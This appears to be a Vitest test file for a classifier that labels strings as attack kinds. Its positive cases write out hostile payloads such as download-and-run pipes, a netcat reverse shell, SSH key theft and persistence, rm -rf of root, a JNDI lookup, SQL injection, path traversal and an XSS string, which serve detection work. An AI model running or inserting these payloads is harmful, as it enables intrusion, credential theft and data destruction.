import { describe, expect, it } from 'vitest';
import { PAYLOADS } from './payloads.ts';

const kindOf = (text: string): string | undefined => PAYLOADS.find(({ pattern }) => text.search(pattern(text)) >= 0)?.id;

describe('payloads', () => {
  it.each([
    ['wget -qO- http://203.0.113.5/a | sudo bash', 'download-and-run'],
    ['bash <(curl -s https://x.example/i.sh)', 'download-and-run'],
    ['echo aWQ= | base64 -d | sh', 'encoded-command'],
    ['nc 203.0.113.5 4444 -e /bin/sh', 'reverse-shell'],
    ['tar czf - ~/.ssh/id_ed25519', 'steal-file'],
    ['rm -rf --no-preserve-root /', 'destroy'],
    ['echo key >> ~/.ssh/authorized_keys', 'persist'],
    ['a.txt && whoami', 'chained-command'],
    ['$(id)', 'substitution'],
    ["require('child_process').exec('x')", 'run-code'],
    ['${jndi:ldap://x.example/a}', 'template'],
    ["x' OR '1'='1", 'sql'],
    ['region; DROP TABLE audit; --', 'sql'],
    ['..%2f..%2fsecret', 'traversal'],
    ['<img src=x onerror=fetch(1)>', 'script'],
  ])('%s is %s', (text, id) => {
    expect(kindOf(text)).toBe(id);
  });

  it.each([
    'rm -rf ./dist',
    'curl https://api.example.com/v1 -H "A: b"',
    'a && b',
    '../shared/a.ts',
    '{{ name }}',
    '${HOME}/x',
    "it's a or b",
  ])('%s is none', (text) => {
    expect(kindOf(text)).toBeUndefined();
  });
});
